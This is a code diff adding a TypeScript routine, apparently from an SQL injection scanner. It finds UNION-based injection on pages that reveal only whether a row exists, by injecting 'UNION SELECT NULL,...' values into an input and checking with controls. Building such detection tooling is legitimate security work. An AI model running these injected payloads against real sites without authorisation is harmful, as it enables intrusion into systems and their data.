@@ -46,3 +46,38 @@ export async function tryUnion(usual: string, read: Read): Promise<UnionForm | n
   }
   return null;
 }
+
+/** Which page a value shows. */
+export type Look = (value: string) => Promise<'usual' | 'other' | 'nothing'>;
+
+const MOST_HIDDEN_COLUMNS = 6;
+
+const rowOf = (usual: string, columns: number, words = 'UNION SELECT'): string =>
+  `${usual} ${words} ${Array.from({ length: columns }, () => 'NULL').join(',')}`;
+
+/**
+ * Whether a second SELECT adds a row to a page that shows only whether there is one, and hides errors: for a number that no row has. A filter of words
+ * does not count columns, so one column more has to show the usual page. Reads no data.
+ * @returns a value that shows the usual page, and one that adds the row
+ */
+export async function tryHiddenUnion(
+  usual: string,
+  look: Look,
+): Promise<[same: string, other: string] | null> {
+  for (let columns = 1; columns <= MOST_HIDDEN_COLUMNS; columns += 1) {
+    const seen = await look(rowOf(usual, columns));
+    if (seen === 'nothing') return null;
+    if (seen === 'usual') continue;
+    const [same, other] = [rowOf(usual, columns, 'UNOIN SELECT'), rowOf(usual, columns)];
+    const rounds: readonly [value: string, shows: 'usual' | 'other'][] = [
+      [same, 'usual'],
+      [rowOf(usual, columns + 1), 'usual'],
+      [rowOf(usual, columns, 'UNION ALL SELECT'), 'other'],
+      [rowOf(usual, columns + 2, 'UNION ALL SELECT'), 'usual'],
+      [usual, 'usual'],
+    ];
+    for (const [value, shows] of rounds) if ((await look(value)) !== shows) return null;
+    return [same, other];
+  }
+  return null;
+}
